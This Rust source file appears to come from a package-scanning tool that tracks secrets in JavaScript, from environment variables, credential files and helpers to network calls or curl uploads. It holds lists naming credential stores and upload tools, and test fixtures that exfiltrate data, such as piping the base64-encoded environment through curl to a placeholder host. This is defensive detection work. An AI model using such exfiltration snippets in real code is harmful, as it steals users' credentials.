//! Data-flow lite: follows secrets from where a file gets them (the whole `process.env`, a
//! secret-named variable, a credential file read, a credential helper's output, the host's
//! identity) through variables, object and array literals, templates, concatenation, wrapper
//! calls (`JSON.stringify`, `Buffer.from(…).toString('base64')`, a local `parse`) and the
//! parameters of local functions, to where they leave: the arguments of a network call (URL,
//! headers, body, `req.write`/`end`, a DNS name) or of a command that uploads (`curl`, `wget`).
//!
//! Names are tracked per file, without scopes (like the alias map of `js.rs`), iterated to a
//! fixed point a few times so a function declared below its call still taints its parameters.
//! A credential in an `Authorization`-like header or an `auth` option is a client using its own
//! key, not a flow.

use crate::js::{Analyzer, HashMap};
use oxc_ast::ast::*;
use oxc_ast_visit::{Visit, walk};
use oxc_span::GetSpan;

/// How bad the data is, weakest first.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Source {
    /// Who and where the machine is (`os.hostname()`, `os.userInfo()`).
    Host,
    /// One secret-named environment variable (`process.env.NPM_TOKEN`).
    Token,
    /// Every secret at once or a credential store: the whole environment, a credential file
    /// (`.env`, `.npmrc`, SSH keys, cloud credentials…), a credential helper's output
    /// (`gh auth token`, `git credential fill`).
    Secrets,
}

/// A source reaching a sink in one file.
#[derive(Debug, Clone)]
pub struct Flow {
    pub source: Source,
    /// What the data is (`process.env`, `reads .env`, `gh auth token`).
    pub what: String,
    /// The sink's resolved call path (`https.request`, `fetch`, `child_process.exec`).
    pub sink: String,
    pub off: u32,
}

type Taint = (Source, String);

/// Runs the flow pass over a parsed program with the analyser's final alias map.
pub fn flows(an: &Analyzer, program: &Program) -> Vec<Flow> {
    let mut t = Tracker {
        an,
        vars: HashMap::default(),
        paths: HashMap::default(),
        params: HashMap::default(),
        returns: HashMap::default(),
        current: Vec::new(),
        flows: Vec::new(),
        grew: false,
    };
    for _ in 0..4 {
        t.grew = false;
        t.flows.clear();
        t.visit_program(program);
        if !t.grew {
            break;
        }
    }
    let mut out = t.flows;
    out.sort_by_key(|f| (f.off, std::cmp::Reverse(f.source)));
    out.dedup_by_key(|f| f.off);
    out
}

/// Whether the text of a file can hold a flow at all: a source and a sink both named.
pub fn worth_tracking(src: &str) -> bool {
    let source = src.contains("process.env")
        || src.contains("readFile")
        || src.contains("hostname")
        || src.contains("userInfo")
        || src.contains("auth token")
        || src.contains("credential");
    let sink = [
        "http",
        "fetch",
        "axios",
        "request",
        "got",
        "net",
        "dns",
        "WebSocket",
        "curl",
        "wget",
        "sendBeacon",
        "needle",
        "undici",
    ]
    .iter()
    .any(|k| src.contains(k));
    source && sink
}

struct Tracker<'b, 's> {
    an: &'b Analyzer<'s>,
    vars: HashMap<String, Taint>,
    /// Variables holding a credential file's path (`const p = path.join(home, '.npmrc')`).
    paths: HashMap<String, String>,
    /// Local functions and their parameter names.
    params: HashMap<String, Vec<String>>,
    /// Local functions that return a secret (`function token() { return process.env.X || … }`).
    returns: HashMap<String, Taint>,
    /// The named functions being walked, innermost last.
    current: Vec<String>,
    flows: Vec<Flow>,
    grew: bool,
}

/// A secret-looking environment variable name.
fn secret_var(name: &str) -> bool {
    let u = name.to_ascii_uppercase();
    [
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "API_KEY",
        "APIKEY",
        "PRIVATE_KEY",
        "ACCESS_KEY",
        "_AUTH",
        "CREDENTIAL",
        "MNEMONIC",
    ]
    .iter()
    .any(|k| u.contains(k))
}

/// A path (or path piece) that names a credential store.
fn credential_path(s: &str) -> Option<&'static str> {
    let s = s.trim();
    if s.len() > 200 {
        return None;
    }
    let base = s.rsplit(['/', '\\']).next().unwrap_or(s);
    if base == ".env" || base.starts_with(".env.") && !base.ends_with(".example") {
        return Some(".env");
    }
    let pieces: &[(&str, &str)] = &[
        (".npmrc", ".npmrc"),
        (".ssh", "ssh keys"),
        ("id_rsa", "ssh keys"),
        ("id_ed25519", "ssh keys"),
        (".git-credentials", "git credentials"),
        (".netrc", "git credentials"),
        (".aws", "cloud credentials"),
        (".kube", "cloud credentials"),
        ("gcloud", "cloud credentials"),
        (".docker/config.json", "docker credentials"),
        ("gh/hosts.yml", "gh credentials"),
        ("Login Data", "browser profiles"),
        ("wallet.dat", "wallets"),
        ("keystore", "wallets"),
        ("solana/id.json", "wallets"),
        (".bash_history", "shell history"),
        (".zsh_history", "shell history"),
    ];
    pieces
        .iter()
        .find(|(p, _)| {
            s == *p || s.contains(p) && (s.starts_with(['.', '~', '/']) || s.contains('/'))
        })
        .map(|(_, what)| *what)
}

/// A command that prints a stored credential.
fn credential_helper(cmd: &str) -> bool {
    let c = cmd.trim();
    c.starts_with("gh auth token")
        || c.starts_with("git credential fill")
        || c.starts_with("npm token")
        || c.contains("security find-generic-password")
        || c.contains("security find-internet-password")
        || c.starts_with("git config --get http.") && c.contains("extraheader")
}

/// Object keys whose value is a client's own credential, sent where it belongs.
fn auth_key(k: &str) -> bool {
    matches!(
        k.to_ascii_lowercase().as_str(),
        "authorization"
            | "proxy-authorization"
            | "auth"
            | "x-api-key"
            | "api-key"
            | "apikey"
            | "x-auth-token"
            | "private-token"
            | "x-github-token"
            | "bearer"
            | "password"
            | "passphrase"
            | "env"
    )
}

/// Calls that send data out of the machine.
fn is_sink(p: &str) -> bool {
    if crate::rules::network::is_net_call(p) {
        return true;
    }
    let (head, method) = p.rsplit_once('.').unwrap_or((p, ""));
    let root = p.split('.').next().unwrap_or(p);
    let sending = matches!(
        method,
        "request" | "get" | "post" | "put" | "patch" | "send" | "write" | "end" | "connect"
    );
    // A client module (`axios.post`, `got.post`, `needle('post', …)`, `node-fetch`).
    // A client module's own call (`axios.post`, `got.post`, `needle(…)`), not a deeper chain
    // (`http.createServer.hot.send` is a dev server talking to its page).
    (crate::rules::network::NET_MODULES.contains(&root) && (sending && head == root || p == root))
        // The result of a request or socket: `https.request.end(body)`, `net.connect.write(x)`.
        || (matches!(method, "write" | "end" | "send") && crate::rules::network::is_net_call(head))
}

impl Tracker<'_, '_> {
    fn taint_var(&mut self, name: &str, t: Taint) {
        match self.vars.get(name) {
            Some(old) if old.0 >= t.0 => {}
            _ => {
                self.vars.insert(name.to_string(), t);
                self.grew = true;
            }
        }
    }

    fn taint_pattern(&mut self, p: &BindingPattern, t: &Taint) {
        match p {
            BindingPattern::BindingIdentifier(id) => self.taint_var(id.name.as_str(), t.clone()),
            BindingPattern::ObjectPattern(o) => {
                for prop in &o.properties {
                    self.taint_pattern(&prop.value, t);
                }
                if let Some(r) = &o.rest {
                    self.taint_pattern(&r.argument, t);
                }
            }
            BindingPattern::ArrayPattern(a) => {
                for el in a.elements.iter().flatten() {
                    self.taint_pattern(el, t);
                }
            }
            BindingPattern::AssignmentPattern(a) => self.taint_pattern(&a.left, t),
        }
    }

    /// The credential store a path expression names, through variables holding such paths.
    fn names_credential(&self, e: &Expression, depth: u32) -> Option<String> {
        if depth > 12 {
            return None;
        }
        if let Some(s) = self.an.fold_expr(e)
            && let Some(w) = credential_path(&s)
        {
            return Some(w.to_string());
        }
        match e.without_parentheses() {
            Expression::StringLiteral(s) => credential_path(&s.value).map(str::to_string),
            Expression::Identifier(id) => self.paths.get(id.name.as_str()).cloned(),
            Expression::TemplateLiteral(t) => {
                for q in &t.quasis {
                    if let Some(w) = credential_path(q.value.raw.as_str()) {
                        return Some(w.to_string());
                    }
                }
                t.expressions
                    .iter()
                    .find_map(|x| self.names_credential(x, depth + 1))
            }
            Expression::BinaryExpression(b) => self
                .names_credential(&b.left, depth + 1)
                .or_else(|| self.names_credential(&b.right, depth + 1)),
            Expression::LogicalExpression(l) => self
                .names_credential(&l.left, depth + 1)
                .or_else(|| self.names_credential(&l.right, depth + 1)),
            Expression::ConditionalExpression(c) => self
                .names_credential(&c.consequent, depth + 1)
                .or_else(|| self.names_credential(&c.alternate, depth + 1)),
            // `path.join(home, '.npmrc')`, `[home, '.npmrc'].join(sep)`
            Expression::CallExpression(c) => c
                .arguments
                .iter()
                .filter_map(|a| a.as_expression())
                .find_map(|x| self.names_credential(x, depth + 1))
                .or_else(|| match c.callee.without_parentheses() {
                    Expression::StaticMemberExpression(m) => {
                        self.names_credential(&m.object, depth + 1)
                    }
                    _ => None,
                }),
            Expression::ArrayExpression(a) => a
                .elements
                .iter()
                .filter_map(|el| el.as_expression())
                .find_map(|x| self.names_credential(x, depth + 1)),
            _ => None,
        }
    }

    /// The strongest source an expression carries, if any.
    fn taint_of(&self, e: &Expression, depth: u32) -> Option<Taint> {
        if depth > 24 {
            return None;
        }
        let best = |a: Option<Taint>, b: Option<Taint>| match (a, b) {
            (Some(x), Some(y)) => Some(if y.0 > x.0 { y } else { x }),
            (x, None) => x,
            (None, y) => y,
        };
        match e.without_parentheses() {
            Expression::Identifier(id) => self.vars.get(id.name.as_str()).cloned(),
            Expression::StaticMemberExpression(_) | Expression::ComputedMemberExpression(_) => {
                if let Some(p) = self.an.path_of(e) {
                    if p == "process.env" {
                        return Some((Source::Secrets, "process.env".into()));
                    }
                    if let Some(v) = p.strip_prefix("process.env.") {
                        return secret_var(v).then(|| (Source::Token, p.clone()));
                    }
                }
                let (obj, prop) = match e.without_parentheses() {
                    Expression::StaticMemberExpression(m) => {
                        (&m.object, Some(m.property.name.as_str()))
                    }
                    Expression::ComputedMemberExpression(m) => (&m.object, None),
                    _ => return None,
                };
                let t = self.taint_of(obj, depth + 1)?;
                // One variable of the whole environment (`env[key]`, `env.HOME`) is that
                // variable, not every secret.
                if t.1 == "process.env" {
                    return prop
                        .filter(|p| secret_var(p))
                        .map(|p| (Source::Token, format!("process.env.{p}")));
                }
                Some(t)
            }
            Expression::CallExpression(c) => {
                if let Expression::Identifier(id) = c.callee.without_parentheses()
                    && let Some(t) = self.returns.get(id.name.as_str())
                {
                    return Some(t.clone());
                }
                let p = self.an.path_of(&c.callee).unwrap_or_default();
                let args = || c.arguments.iter().filter_map(|a| a.as_expression());
                if matches!(
                    p.as_str(),
                    "fs.readFileSync"
                        | "fs.readFile"
                        | "fs.promises.readFile"
                        | "fs/promises.readFile"
                        | "fs.createReadStream"
                ) {
                    return args()
                        .next()
                        .and_then(|a| self.names_credential(a, 0))
                        .map(|w| (Source::Secrets, format!("reads {w}")));
                }
                // Any process start (bundlers rename the module: `import_x.execSync`).
                let method = p.rsplit('.').next().unwrap_or(&p);
                if (method.starts_with("exec") || method.starts_with("spawn"))
                    && let Some(cmd) = args().next().and_then(|a| self.an.fold_expr(a))
                    && credential_helper(&cmd)
                {
                    return Some((Source::Secrets, cmd.trim().to_string()));
                }
                if matches!(p.as_str(), "os.hostname" | "os.userInfo") {
                    return Some((Source::Host, p));
                }
                if is_sink(&p) {
                    return None;
                }
                let mut t = None;
                for a in args() {
                    t = best(t, self.taint_of(a, depth + 1));
                }
                // A method of a tainted value: `parsed.toString()`, `Buffer.from(x).toString()`.
                if let Expression::StaticMemberExpression(m) = c.callee.without_parentheses() {
                    t = best(t, self.taint_of(&m.object, depth + 1));
                }
                t
            }
            Expression::NewExpression(n) => n
                .arguments
                .iter()
                .filter_map(|a| a.as_expression())
                .map(|a| self.taint_of(a, depth + 1))
                .fold(None, best),
            Expression::ObjectExpression(o) => {
                let mut t = None;
                for p in &o.properties {
                    match p {
                        ObjectPropertyKind::ObjectProperty(p) => {
                            if p.key.static_name().is_some_and(|k| auth_key(&k)) {
                                continue;
                            }
                            t = best(t, self.taint_of(&p.value, depth + 1));
                        }
                        ObjectPropertyKind::SpreadProperty(s) => {
                            t = best(t, self.taint_of(&s.argument, depth + 1));
                        }
                    }
                }
                t
            }
            Expression::ArrayExpression(a) => a
                .elements
                .iter()
                .filter_map(|el| match el {
                    ArrayExpressionElement::SpreadElement(s) => Some(&s.argument),
                    el => el.as_expression(),
                })
                .map(|x| self.taint_of(x, depth + 1))
                .fold(None, best),
            Expression::TemplateLiteral(t) => t
                .expressions
                .iter()
                .map(|x| self.taint_of(x, depth + 1))
                .fold(None, best),
            Expression::BinaryExpression(b) if b.operator == BinaryOperator::Addition => best(
                self.taint_of(&b.left, depth + 1),
                self.taint_of(&b.right, depth + 1),
            ),
            // `a && b` is `b` when it is anything worth sending.
            Expression::LogicalExpression(l) if l.operator == LogicalOperator::And => {
                self.taint_of(&l.right, depth + 1)
            }
            Expression::LogicalExpression(l) => best(
                self.taint_of(&l.left, depth + 1),
                self.taint_of(&l.right, depth + 1),
            ),
            Expression::ConditionalExpression(c) => best(
                self.taint_of(&c.consequent, depth + 1),
                self.taint_of(&c.alternate, depth + 1),
            ),
            Expression::AwaitExpression(a) => self.taint_of(&a.argument, depth + 1),
            Expression::SequenceExpression(s) => s
                .expressions
                .last()
                .and_then(|x| self.taint_of(x, depth + 1)),
            Expression::AssignmentExpression(a) => self.taint_of(&a.right, depth + 1),
            Expression::ChainExpression(ch) => match &ch.expression {
                ChainElement::CallExpression(_) => None,
                m => m
                    .as_member_expression()
                    .and_then(|m| self.taint_of(m.object(), depth + 1)),
            },
            _ => None,
        }
    }

    /// Whether the command arguments of a process start upload with a network tool.
    fn uploads(&self, args: &[Argument]) -> bool {
        args.iter()
            .take(2)
            .filter_map(|a| a.as_expression())
            .any(|e| {
                let text = self
                    .an
                    .fold_expr(e)
                    .or_else(|| self.an.source_of(e.span()).map(str::to_string))
                    .unwrap_or_default();
                [
                    "curl ",
                    "wget ",
                    "nc ",
                    "ncat ",
                    "Invoke-WebRequest",
                    "Invoke-RestMethod",
                ]
                .iter()
                .any(|k| text.contains(k))
            })
    }

    fn check_sink(&mut self, callee: &Expression, args: &[Argument], off: u32) {
        // Local function: its parameters take the taint of the arguments.
        if let Expression::Identifier(id) = callee.without_parentheses()
            && let Some(names) = self.params.get(id.name.as_str()).cloned()
        {
            for (n, a) in names.iter().zip(args.iter()) {
                if let Some(t) = a.as_expression().and_then(|e| self.taint_of(e, 0)) {
                    self.taint_var(n, t);
                }
            }
        }
        let p = self.an.path_of(callee);
        // Containers filled with a secret: `out.push(env)`, `Object.assign(o, process.env)`.
        if let Expression::StaticMemberExpression(m) = callee.without_parentheses()
            && matches!(
                m.property.name.as_str(),
                "push" | "unshift" | "set" | "append"
            )
            && let Expression::Identifier(obj) = m.object.without_parentheses()
            && let Some(t) = args
                .iter()
                .filter_map(|a| a.as_expression())
                .filter_map(|e| self.taint_of(e, 0))
                .max_by_key(|t| t.0)
        {
            self.taint_var(obj.name.as_str(), t);
        }
        if p.as_deref() == Some("Object.assign")
            && let Some(Expression::Identifier(obj)) = args
                .first()
                .and_then(|a| a.as_expression())
                .map(|e| e.without_parentheses())
            && let Some(t) = args
                .iter()
                .skip(1)
                .filter_map(|a| a.as_expression())
                .filter_map(|e| self.taint_of(e, 0))
                .max_by_key(|t| t.0)
        {
            self.taint_var(obj.name.as_str(), t);
        }
        let Some(p) = p else {
            return;
        };
        let spawn = crate::rules::exec::is_spawn(&p);
        if !(is_sink(&p) || spawn && self.uploads(args)) {
            return;
        }
        let taken = if spawn { 2 } else { 4 };
        let t = args
            .iter()
            .take(taken)
            .filter_map(|a| a.as_expression())
            .filter(|e| {
                !matches!(
                    e.without_parentheses(),
                    Expression::FunctionExpression(_) | Expression::ArrowFunctionExpression(_)
                )
            })
            .filter_map(|e| self.taint_of(e, 0))
            .max_by_key(|t| t.0);
        if let Some((source, what)) = t {
            self.flows.push(Flow {
                source,
                what,
                sink: p,
                off,
            });
        }
    }
}

fn param_names(params: &FormalParameters) -> Vec<String> {
    params
        .items
        .iter()
        .map(|p| match &p.pattern {
            BindingPattern::BindingIdentifier(id) => id.name.to_string(),
            BindingPattern::AssignmentPattern(a) => match &a.left {
                BindingPattern::BindingIdentifier(id) => id.name.to_string(),
                _ => String::new(),
            },
            _ => String::new(),
        })
        .collect()
}

impl<'a> Visit<'a> for Tracker<'_, '_> {
    fn visit_function(&mut self, it: &Function<'a>, flags: oxc_syntax::scope::ScopeFlags) {
        if let Some(id) = &it.id {
            self.params
                .insert(id.name.to_string(), param_names(&it.params));
            self.current.push(id.name.to_string());
            walk::walk_function(self, it, flags);
            self.current.pop();
        } else {
            walk::walk_function(self, it, flags);
        }
    }

    fn visit_return_statement(&mut self, it: &ReturnStatement<'a>) {
        if let (Some(name), Some(arg)) = (self.current.last(), &it.argument)
            && let Some(t) = self.taint_of(arg, 0)
            && self.returns.get(name).is_none_or(|old| old.0 < t.0)
        {
            self.returns.insert(name.clone(), t);
            self.grew = true;
        }
        walk::walk_return_statement(self, it);
    }

    fn visit_variable_declarator(&mut self, it: &VariableDeclarator<'a>) {
        if let Some(init) = &it.init {
            if let BindingPattern::BindingIdentifier(id) = &it.id {
                match init.without_parentheses() {
                    Expression::ArrowFunctionExpression(f) => {
                        self.params
                            .insert(id.name.to_string(), param_names(&f.params));
                    }
                    Expression::FunctionExpression(f) => {
                        self.params
                            .insert(id.name.to_string(), param_names(&f.params));
                    }
                    _ => {}
                }
                if !self.paths.contains_key(id.name.as_str())
                    && let Some(w) = self.names_credential(init, 0)
                    && !matches!(init.without_parentheses(), Expression::CallExpression(c)
                        if self.an.path_of(&c.callee).is_some_and(|p| p.starts_with("fs.")))
                {
                    self.paths.insert(id.name.to_string(), w);
                    self.grew = true;
                }
            }
            if let Some(t) = self.taint_of(init, 0) {
                self.taint_pattern(&it.id, &t);
            }
        }
        walk::walk_variable_declarator(self, it);
    }

    fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
        if let Some(t) = self.taint_of(&it.right, 0) {
            match &it.left {
                AssignmentTarget::AssignmentTargetIdentifier(id) => {
                    self.taint_var(id.name.as_str(), t)
                }
                left => {
                    // `data.env = process.env`, `out[k] = env[k]`: the object holds it now.
                    if let Some(m) = left.as_member_expression()
                        && let Expression::Identifier(obj) = m.object().without_parentheses()
                        && obj.name != "module"
                        && obj.name != "exports"
                        && obj.name != "process"
                    {
                        self.taint_var(obj.name.as_str(), t);
                    }
                }
            }
        }
        walk::walk_assignment_expression(self, it);
    }

    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        let off = self.an.offset(it.span);
        self.check_sink(&it.callee, &it.arguments, off);
        walk::walk_call_expression(self, it);
    }

    fn visit_new_expression(&mut self, it: &NewExpression<'a>) {
        let off = self.an.offset(it.span);
        self.check_sink(&it.callee, &it.arguments, off);
        walk::walk_new_expression(self, it);
    }
}

#[cfg(test)]
mod tests {
    use super::Source;
    use crate::js::{Parsed, analyze};

    fn flows(src: &str) -> Vec<(Source, String, String)> {
        let f = match std::thread::scope(|s| {
            std::thread::Builder::new()
                .stack_size(64 << 20)
                .spawn_scoped(s, || analyze(src, "index.js", 4, 1 << 20))
                .expect("thread")
                .join()
                .expect("join")
        }) {
            Parsed::Ok(f) | Parsed::Failed(_, f) => f,
        };
        f.flows
            .into_iter()
            .map(|f| (f.source, f.what, f.sink))
            .collect()
    }

    #[test]
    fn dotenv_values_through_a_parser_and_a_helper_into_a_header() {
        let src = r#"const fs = require("fs"); const https = require("https"); const path = require("path");
function report(values) {
  const r = https.request({ host: "h.example", method: "GET",
    headers: { "x-schema": Buffer.from(JSON.stringify(values)).toString("base64") } });
  r.end();
}
function config(o = {}) {
  const p = o.path || path.resolve(process.cwd(), ".env");
  const parsed = parse(fs.readFileSync(p, "utf8"));
  report(parsed);
}"#;
        let f = flows(src);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].0, Source::Secrets);
        assert_eq!(f[0].2, "https.request");
    }

    #[test]
    fn credential_helper_output_in_a_body_but_not_in_the_auth_header() {
        let src = r#"const cp = require("child_process");
const token = process.env.GH_TOKEN || cp.execSync("gh auth token", { encoding: "utf8" }).trim();
async function go() {
  const h = { authorization: `token ${token}` };
  await fetch("https://api.github.example/user", { headers: h });
  await fetch("https://logs.example/t", { method: "POST", body: JSON.stringify({ token }) });
}"#;
        let f = flows(src);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].1, "gh auth token");
    }

    #[test]
    fn a_local_function_returning_a_secret_taints_its_callers() {
        let src = r#"const fs = require("fs"), os = require("os"), path = require("path");
function creds() { const rc = [os.homedir(), ".npmrc"].join(path.sep); return fs.readFileSync(rc, "utf8"); }
const c = creds();
require("https").get("https://t.example/v?c=" + encodeURIComponent(c));"#;
        let f = flows(src);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].1, "reads .npmrc");
        let plain = r#"function version() { return require("./package.json").version; }
require("https").get("https://t.example/v?c=" + version());"#;
        assert!(flows(plain).is_empty());
    }

    #[test]
    fn own_api_key_in_an_authorization_header_is_not_a_flow() {
        let src = r#"const https = require("https");
const key = process.env.ACME_API_KEY;
https.request({ host: "api.acme.example", headers: { Authorization: "Bearer " + key } }).end(JSON.stringify({ q: 1 }));
const env = process.env; require("child_process").spawn("node", ["x.js"], { env });"#;
        assert!(flows(src).is_empty());
    }

    #[test]
    fn one_variable_of_the_environment_is_not_the_environment() {
        // @tybys/wasm-util 0.10.5: a per-drive cwd read from `env[key]` ends up in a fetch URL.
        let src = r#"const env = typeof process !== "undefined" ? process.env : undefined;
let p = env && env["=C:"]; fetch(p + "/x.wasm");
const t = env.NPM_TOKEN; fetch("https://r.example/?t=" + t);"#;
        let f = flows(src);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].0, Source::Token);
    }

    #[test]
    fn a_dev_server_message_is_not_a_network_request() {
        // vite 5.2.10: `server.hot.send(...)` on the result of http.createServer.
        let src = r#"const http = require("http"); const server = http.createServer(); const env = process.env;
server.hot.send({ type: "update", data: env });"#;
        assert!(flows(src).is_empty());
    }

    #[test]
    fn dotenv_read_without_network_is_not_a_flow() {
        let src = r#"const fs = require("fs");
const parsed = JSON.parse(fs.readFileSync(".env", "utf8"));
for (const k in parsed) process.env[k] = parsed[k];
console.log(`loaded ${Object.keys(parsed).length} variables from https://docs.example`);"#;
        assert!(flows(src).is_empty());
    }

    #[test]
    fn whole_environment_piped_to_curl() {
        let src = r#"const { exec } = require("child_process");
const d = Buffer.from(JSON.stringify(process.env)).toString("base64");
exec(`curl -s -d ${d} https://c.example/e`);"#;
        let f = flows(src);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].0, Source::Secrets);
    }
}
